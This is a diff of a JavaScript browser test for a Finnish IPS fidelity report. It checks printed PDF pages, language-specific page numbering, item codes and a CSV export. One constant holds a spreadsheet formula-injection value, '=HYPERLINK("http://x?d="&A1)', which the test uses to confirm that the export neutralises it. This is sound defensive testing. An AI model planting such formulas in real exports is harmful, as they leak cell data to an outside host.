@@ -1,7 +1,8 @@
 // Issue 7, the fidelity report and the CSV export: the demo's 2022 review (91 points, 83 in 2021)
 // as a printable report — total, band, the 74-point line, 25 items, recommendations by priority,
 // the change since 2021 — printed to an A4 PDF that is turned into PNG pages (pdftoppm) and
-// checked for a clean print; then a note starting with "=" is written and the CSV download is
+// checked for a clean print (every page numbered "sivu n / N" in the report's language, no page
+// ending with a heading, item codes S1 … V14 the same in every language); then a note starting with "=" is written and the CSV download is
 // checked for the header, 25 rows and the neutralised note. axe and screenshots at both tablet
 // sizes, the second in English with the report switched to Finnish.
 import assert from 'node:assert/strict';
@@ -13,6 +14,7 @@ import { openDemoReview, printToPng, reopenReview } from './flows.mjs';
 import { demoDay } from './demo-dates.mjs';
 
 const OUT_DIR = path.join(ROOT, 'test-results', 'report');
+const OUT_DIR_EN = path.join(ROOT, 'test-results', 'report-en');
 const FORMULA_NOTE = '=HYPERLINK("http://x?d="&A1)';
 
 /** The report's figures, read from the page as a reader sees them. */
@@ -22,6 +24,9 @@ async function checkDemoReport(page, t) {
   assert.match(await page.getByTestId('report-band').textContent(), t.band);
   assert.match(await page.getByTestId('report-line').textContent(), t.line);
   assert.equal(await page.getByTestId('report-item-row').count(), 25);
+  // The item codes are the scale's, the same in every language, so two reports can be read side by side.
+  const codes = await page.getByTestId('report-item-row').evaluateAll((rows) => rows.map((row) => row.querySelector('th').textContent));
+  assert.deepEqual(codes, SCALE_CODES);
   assert.equal(await page.getByTestId('report-section-row').count(), 3);
   const priorities = await page.getByTestId('report-priority-group').evaluateAll((groups) => groups.map((g) => g.dataset.priority));
   assert.ok(priorities.length > 0, 'the demo has recommendations');
@@ -33,6 +38,36 @@ async function checkDemoReport(page, t) {
   assert.ok((await page.getByTestId('report-recommendation').count()) >= priorities.length);
   assert.match(await page.getByTestId('report-change-total').textContent(), t.change);
   assert.ok((await page.getByTestId('report-changed-item').count()) > 0, 'items that changed since 2021 are listed');
+}
+
+const SCALE_CODES = [
+  ...Array.from({ length: 3 }, (_, i) => `S${i + 1}`),
+  ...Array.from({ length: 8 }, (_, i) => `O${i + 1}`),
+  ...Array.from({ length: 14 }, (_, i) => `V${i + 1}`),
+];
+
+/**
+ * The printed report page by page: every page numbered "<word> n / N" in the report's language,
+ * and no page ending with a heading (a heading is kept with what it heads).
+ */
+async function checkPrintedPages(page, text, pageWord) {
+  const headings = await page
+    .locator('.report h2, .report h3, .report-section-head th')
+    .evaluateAll((elements) => elements.map((element) => element.textContent.replace(/\s+/g, ' ').trim()));
+  const printed = text.split('\f').filter((p) => p.trim() !== '');
+  const footer = new RegExp(`${pageWord} (\\d+) / (\\d+)`);
+  printed.forEach((lines, index) => {
+    const content = lines.split('\n').filter((line) => line.trim() !== '');
+    const numbered = content.map((line) => line.match(footer)).find(Boolean);
+    assert.ok(numbered, `page ${index + 1} has a page number "${pageWord} ${index + 1} / ${printed.length}"`);
+    assert.deepEqual([Number(numbered[1]), Number(numbered[2])], [index + 1, printed.length]);
+    const last = content
+      .filter((line) => !footer.test(line))
+      .at(-1)
+      .replace(/\s+/g, ' ')
+      .trim();
+    if (index < printed.length - 1) assert.ok(!headings.includes(last), `page ${index + 1} ends with the heading "${last}"`);
+  });
 }
 
 const FI = {
@@ -62,6 +97,8 @@ test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neu
   // Print: the PDF holds the report and nothing of the app around it.
   const { pages, text } = await printToPng(page, 'report-fi', OUT_DIR);
   assert.ok(pages.length >= 3 && pages.length <= 8, `a report of a few A4 pages, got ${pages.length}`);
+  await checkPrintedPages(page, text, 'sivu');
+  assert.ok(text.includes('Työvalmennuspalvelu Kätevä · IPS-laatuarvioinnin raportti'), 'each page says whose report it is');
   for (const expected of [
     'IPS-laatuarvioinnin raportti',
     'Työvalmennuspalvelu Kätevä',
@@ -121,6 +158,10 @@ test('report in en at 768x1024: English report, then the same report in Finnish 
   await checkDemoReport(page, FI);
   assert.equal(await page.getByTestId('report').getAttribute('lang'), 'fi');
   assert.ok(await page.getByRole('button', { name: 'Print / save as PDF' }).isVisible());
+  // Printed in the report's language, whatever the app's: "sivu", not "page".
+  const { text } = await printToPng(page, 'report-fi-in-en', OUT_DIR_EN);
+  await checkPrintedPages(page, text, 'sivu');
+  assert.ok(!/page \d+ \/ \d+/.test(text), 'no English page numbers in the Finnish report');
   await checkA11y(page, 'Finnish report in the English app (768x1024)');
   await screenshot(page, 'report-fi-768x1024', { fullPage: false });
   await assertClean(page);
